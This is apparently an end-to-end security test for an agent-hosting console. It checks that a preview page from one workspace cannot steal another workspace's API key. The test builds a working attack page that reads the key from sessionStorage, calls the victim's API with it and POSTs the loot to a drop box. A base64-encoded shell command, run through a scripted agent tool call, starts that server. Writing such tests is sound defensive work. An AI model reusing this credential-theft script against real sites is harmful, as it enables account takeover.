import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type Anthropic from '@anthropic-ai/sdk';
import { chromium, type Browser } from 'playwright-core';
import { CONSOLE_DIST } from '../src/api/routes/console.js';
import { isIdle, readStream } from './helpers/e2e.js';
import { startOps, type OpsServer } from './ops-helpers.js';

/**
 * A preview is a page another workspace's agent wrote: in a real browser
 * (Debian's Chromium), a user signed in to the console as workspace A opens
 * workspace B's preview in the same tab. The page's script tries to read the
 * console's key from sessionStorage and to call A's API with it; it reports
 * what it got to its own server in B's sandbox.
 */

const CHROMIUM = '/usr/bin/chromium';
const PORT = 8766;

/** B's dev server: the attack page, a drop box for what it steals, and a way to read the drop box. */
function attackServer(api: string): string {
  const page = `<!doctype html><html><head><title>loading</title></head><body><pre id="out"></pre><script>
(async () => {
  const out = { origin: location.origin };
  try { out.key = sessionStorage.getItem('agenthost.console.key'); } catch (e) { out.keyError = String(e); }
  try { out.storageKeys = Object.keys(sessionStorage); } catch (e) { out.storageError = String(e); }
  const key = out.key || 'none';
  try {
    const r = await fetch(${JSON.stringify(api)} + '/v1/workspace/budget', { headers: { 'x-api-key': key } });
    out.budgetStatus = r.status;
    out.budget = await r.text();
  } catch (e) { out.budgetError = String(e); }
  try {
    const r = await fetch(${JSON.stringify(api)} + '/v1/workspace/budget', { credentials: 'include' });
    out.budgetWithCookiesStatus = r.status;
  } catch (e) { out.budgetWithCookiesError = String(e); }
  try { await fetch('steal', { method: 'POST', body: JSON.stringify(out) }); } catch (e) { out.stealError = String(e); }
  document.getElementById('out').textContent = JSON.stringify(out);
  document.title = 'done';
})();
</script></body></html>`;
  return `const http = require('http');
const stolen = [];
const page = ${JSON.stringify(page)};
http.createServer((req, res) => {
  if (req.method === 'POST') {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => { stolen.push({ url: req.url, body, headers: req.headers }); res.writeHead(204); res.end(); });
    return;
  }
  if (req.url.startsWith('/stolen')) { res.writeHead(200, { 'content-type': 'application/json' }); res.end(JSON.stringify(stolen)); return; }
  res.writeHead(200, { 'content-type': 'text/html' });
  res.end(page);
}).listen(${PORT}, '127.0.0.1');
`;
}

const startCommand = (source: string) => `echo ${Buffer.from(source).toString('base64')} | base64 -d > attack.js
setsid node attack.js > attack.log 2>&1 < /dev/null &
for i in $(seq 300); do (exec 3<>/dev/tcp/127.0.0.1/${PORT}) 2>/dev/null && break; sleep 0.1; done
echo started`;

describe('previews in a browser signed in to the console (sqlite, bwrap, chromium)', { timeout: 300_000 }, () => {
  let h: OpsServer;
  let browser: Browser;

  before(async () => {
    assert.ok(existsSync(join(CONSOLE_DIST, 'index.html')), 'web/dist is missing: run `npm run build:web` (npm test does)');
    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: scripts/install.sh installs Debian's chromium`);
    h = await startOps({ backend: 'sqlite' });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-quic', '--disable-sync'],
    });
  });

  after(async () => {
    await browser?.close();
    await h?.close();
  });

  async function previewServedBy(client: Anthropic, key: string): Promise<string> {
    const agent = await client.beta.agents.create({ name: 'b', model: 'claude-sonnet-4-5', tools: [{ type: 'agent_toolset_20260401' }] });
    const env = await client.beta.environments.create({ name: 'b', config: { type: 'cloud' } });
    const session = await client.beta.sessions.create({ agent: agent.id, environment_id: env.id });
    h.model.setScript([
      { when: 'tools', tool_use: { name: 'Bash', input: { command: startCommand(attackServer(h.server.url)) } } },
      { when: 'tools', text: 'serving' },
    ]);
    // A longer wait than runTurn's: two Claude Code start-ups and Chromium share this machine with other suites.
    const stream = await client.beta.sessions.events.stream(session.id);
    await client.beta.sessions.events.send(session.id, { events: [{ type: 'user.message', content: [{ type: 'text', text: 'serve the page' }] }] });
    const events = await readStream(stream, isIdle, 180_000);
    const result = events.find((e) => e.type === 'agent.tool_result') as { content: Array<{ text: string }> } | undefined;
    assert.match(result?.content[0]?.text ?? '', /started/);
    const res = await fetch(`${h.server.url}/v1/sessions/${session.id}/ports`, {
      method: 'POST',
      headers: { 'x-api-key': key, 'content-type': 'application/json' },
      body: JSON.stringify({ port: PORT }),
    });
    assert.equal(res.status, 200);
    return String(((await res.json()) as { url: string }).url);
  }

  it("workspace B's preview cannot read the console's key of workspace A or call A's API with it", async (t) => {
    const b = await h.newClient('preview-attacker');
    const previewUrl = await previewServedBy(b.client, b.key);

    const context = await browser.newContext({ serviceWorkers: 'block' });
    const budgetCalls: Array<{ key: string | undefined; status?: number }> = [];
    context.on('request', (r) => {
      if (r.url().includes('/v1/workspace/budget')) budgetCalls.push({ key: r.headers()['x-api-key'] });
    });
    context.on('response', (r) => {
      if (r.url().includes('/v1/workspace/budget')) budgetCalls.push({ key: r.request().headers()['x-api-key'], status: r.status() });
    });
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    // A signs in to the console; the key is in the tab's sessionStorage.
    await page.goto(`${h.server.url}/`);
    await page.getByLabel('Workspace API key').fill(h.key);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Sessions' }).waitFor();
    assert.equal(await page.evaluate<string | null>("sessionStorage.getItem('agenthost.console.key')"), h.key);

    // Then opens B's preview in the same tab.
    await page.goto(previewUrl);
    await page.waitForFunction("document.title === 'done'");
    const seen = JSON.parse((await page.locator('#out').textContent()) ?? '{}') as Record<string, unknown>;
    const stolen = await (await fetch(`${previewUrl}stolen`)).text();
    await context.close();

    const report = JSON.stringify({ seen, stolen: stolen.slice(0, 500), budgetCalls });
    t.diagnostic(`what the page got: ${report}`);
    assert.ok(!seen.key, `the page read the console's key: ${report}`);
    assert.ok(!stolen.includes(h.key), `B's sandbox received A's key: ${report}`);
    assert.ok(!stolen.includes('workspace_budget'), `B's sandbox received A's budget: ${report}`);
    assert.ok(!budgetCalls.some((c) => c.key === h.key), `the browser sent A's key for the page: ${report}`);
    assert.ok(!budgetCalls.some((c) => c.status === 200), `A's budget was fetched: ${report}`);
    assert.ok(stolen.includes('"origin'), `the page ran and reported (so the attempts above were made): ${report}`);
    assert.notEqual(new URL(previewUrl).origin, new URL(h.server.url).origin, 'a preview is never on the API’s (and the console’s) origin');
  });
});
